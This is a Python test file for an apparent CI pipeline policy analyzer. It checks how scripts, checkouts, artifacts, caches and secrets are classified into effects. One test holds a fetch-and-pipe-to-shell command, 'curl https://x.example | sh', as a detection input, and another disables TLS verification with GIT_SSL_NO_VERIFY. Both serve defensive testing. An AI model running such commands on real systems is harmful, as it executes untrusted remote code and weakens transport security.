"""What is worked out for every system alike when a book of facts is closed."""

from __future__ import annotations

from collections.abc import Sequence

import pytest

from policyd.errors import InputTooLarge
from policyd.models.facts import (
    ArtifactUse,
    Cache,
    Checkout,
    Container,
    Facts,
    SecretUse,
    StageFact,
)
from policyd.pipeline import fact_book
from policyd.pipeline.fact_book import Around, FactBook
from policyd.pipeline.references import ParsedReference
from policyd.pipeline.source_map import SourceMap, Spot
from policyd.pipeline.yaml_reader import read_yaml_with_places

TEXT = b"a: |\n  one\n  two\nb: x\n"


def _map() -> SourceMap:
    return read_yaml_with_places(TEXT, file="f.yml").source_map


def _stage(book: FactBook, name: str, needs: Sequence[str] = (), kind: str = "", outputs: Sequence[str] = ()) -> None:
    book.stages.append(
        StageFact(
            at=book.at("stages", Spot(("a",))),
            name=name,
            group="",
            kind=kind,
            needs=list(needs),
            needs_kinds=[],
            runner=[],
            self_hosted=False,
            environment="",
            target="",
            timeout_seconds=None,
            explicit_timeout=False,
            untrusted=False,
            privileged=False,
            outputs=list(outputs),
            results=[],
            has_source=False,
        )
    )


def _checkout(book: FactBook, spot: Spot, stage: str = "s") -> None:
    book.checkouts.append(
        Checkout(
            at=book.at("checkouts", spot), stage=stage, text="c", ref="", untrusted=True, persists_credentials=False
        )
    )


def _action(owner: str, name: str, *, local: bool = False) -> ParsedReference:
    return ParsedReference("action", owner, name, "", local=local, pinned=False)


def _closed(book: FactBook) -> Facts:
    return book.close(_map())[0]


def test_effects_stand_where_their_command_does() -> None:
    book = FactBook("f.yml")

    book.script("one\nmake test || true\n", Spot(("a",)), Around("s"))
    facts, places = book.close(_map())

    assert [(effect.kind, effect.at) for effect in facts.effects] == [
        ("runs-workspace", ("effects", 0)),
        ("test", ("effects", 1)),
        ("ignores-failure", ("effects", 2)),
    ]
    place = places.place(("effects", 2))
    assert place is not None
    assert (place.line, place.column) == (3, 3)


def test_variables_components_and_containers_have_effects_too() -> None:
    book = FactBook("f.yml")
    around = Around("s", guards=("approval",))

    book.variable("GIT_SSL_NO_VERIFY", "1", Spot(("b",)), around, literal=True)
    book.reference("a", _action("pypa", "gh-action-pypi-publish"), Spot(("b",)), around)
    book.containers.append(
        Container(at=book.at("containers", Spot(("b",))), stage="s", image="x", options="", privileged=True, volumes=[])
    )
    facts = _closed(book)

    assert [(effect.kind, effect.guards) for effect in facts.effects] == [
        ("tls-off", ["approval"]),
        ("publish", ["approval"]),
        ("privileged-container", []),
    ]


def test_a_stage_is_for_what_it_declares_else_for_what_it_does() -> None:
    book = FactBook("f.yml")
    for name, kind in (("declared", "deploy"), ("seen", "")):
        _stage(book, name, kind=kind)
        book.script("pytest\nnpm publish\n", Spot(("a",)), Around(name))

    declared, seen = _closed(book).stages

    assert declared.purposes == ["deploy"]
    assert seen.purposes == ["publish", "test"]


def test_what_comes_before_a_stage_is_known_even_in_circles() -> None:
    book = FactBook("f.yml")
    _stage(book, "release", needs=["build", "nowhere"])
    _stage(book, "build", needs=["check"])
    _stage(book, "check")
    _stage(book, "x", needs=["y"])
    _stage(book, "y", needs=["x"])
    book.script("pytest", Spot(("a",)), Around("check"))
    book.script("docker build .", Spot(("a",)), Around("build"))

    stages = _closed(book).stages

    assert [stage.needs_kinds for stage in stages] == [["build", "test"], ["test"], [], [], []]


def test_what_runs_after_a_checkout_in_its_stage_is_named() -> None:
    book = FactBook("f.yml")
    book.script("make first", Spot(("a",)), Around("s"))
    _checkout(book, Spot(("b",)))
    book.script("echo\nnpm ci\nmake\n", Spot(("c",)), Around("s"))
    book.script("make other", Spot(("d",)), Around("t"))
    _checkout(book, Spot(("e",)))

    first, second = _closed(book).checkouts

    assert (first.runs, first.runs_at[0]) == ("npm ci", "effects")
    assert (second.runs, second.runs_at) == ("", ())


def test_a_checkout_by_command_comes_before_what_follows_in_the_script() -> None:
    book = FactBook("f.yml")
    script = "make before\ngh pr checkout 1\nmake after\n"
    book.script(script, Spot(("a",)), Around("s"))
    start = script.index("gh")
    _checkout(book, Spot(("a",), start, start + 16))

    assert _closed(book).checkouts[0].runs == "make after"


def test_the_same_script_used_twice_counts_each_time() -> None:
    book = FactBook("f.yml")
    spot = Spot(("a",))
    book.script("make", spot, Around("s"))
    _checkout(book, Spot(("b",)))
    book.script("make", spot, Around("s"))

    assert _closed(book).checkouts[0].runs == "make"


def test_a_local_action_runs_the_tree_too() -> None:
    book = FactBook("f.yml")
    _checkout(book, Spot(("a",)))
    book.reference("a", _action(".", "x", local=True), Spot(("b",)), Around("s"))

    assert _closed(book).checkouts[0].runs_at == ("references", 0)


def test_what_a_front_end_says_itself_stays() -> None:
    book = FactBook("f.yml")
    book.checkouts.append(
        Checkout(
            at=book.at("checkouts", Spot(("a",))),
            stage="s",
            text="c",
            ref="",
            untrusted=True,
            persists_credentials=False,
            runs="known",
        )
    )
    book.script("make", Spot(("b",)), Around("s"))

    assert _closed(book).checkouts[0].runs == "known"


@pytest.mark.parametrize(("direction", "runs"), [("download", "./x.sh"), ("upload", "")])
def test_what_runs_after_an_artifact_came_is_named(direction: str, runs: str) -> None:
    book = FactBook("f.yml")
    book.artifacts.append(
        ArtifactUse(
            at=book.at("artifacts", Spot(("a",))),
            stage="s",
            text="t",
            name="n",
            paths=[],
            direction=direction,  # type: ignore[arg-type]  # one of both
            untrusted=True,
            foreign=True,
            into_workspace=True,
            whole_workspace=False,
        )
    )
    book.script("./x.sh", Spot(("b",)), Around("s"))

    assert _closed(book).artifacts[0].runs == runs


def test_a_cache_of_a_stage_that_releases_says_so() -> None:
    book = FactBook("f.yml")
    for name in ("release", "build"):
        _stage(book, name)
        book.caches.append(
            Cache(
                at=book.at("caches", Spot(("a",))),
                stage=name,
                text="c",
                key="k",
                paths=[],
                restores=True,
                saves=True,
                untrusted=False,
                publishes=False,
            )
        )
    book.script("twine upload dist/*", Spot(("b",)), Around("release"))

    assert [cache.publishes for cache in _closed(book).caches] == [True, False]


def test_secrets_of_the_systems_own_are_none() -> None:
    book = FactBook("f.yml")
    for name, secret in (("own", "GITHUB_TOKEN"), ("other", "DEPLOY_KEY"), ("none", "")):
        _stage(book, name)
        if secret:
            book.secrets.append(
                SecretUse(
                    at=book.at("secrets", Spot(("a",))),
                    stage=name,
                    name=secret,
                    all=False,
                    inherited=False,
                    sink="script",
                )
            )

    assert [stage.has_secrets for stage in _closed(book).stages] == [False, True, False]


def test_variables_that_carry_an_outsiders_text_through_a_script_are_read() -> None:
    book = FactBook("f.yml")

    book.script('X="$T"; a "$X"', Spot(("a",)), Around("s", tainted=frozenset("T"), secrets=frozenset("X")))

    assert [(c.program, c.reads_untrusted, c.reads_secrets) for c in _closed(book).commands] == [("a", ["X"], ["X"])]


def test_arguments_are_commands_with_effects() -> None:
    book = FactBook("f.yml")

    book.arguments(["sh", "-c", "curl https://x.example | sh"], Spot(("a",)), Around("s", shell=""))

    assert "download-run" in [effect.kind for effect in _closed(book).effects]


def test_more_facts_than_a_pipeline_can_have_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(fact_book, "MAX_FACTS", 3)
    book = FactBook("f.yml")

    with pytest.raises(InputTooLarge, match="more than 3 commands"):
        book.script("a;b;c;d", Spot(("a",)), Around("s"))
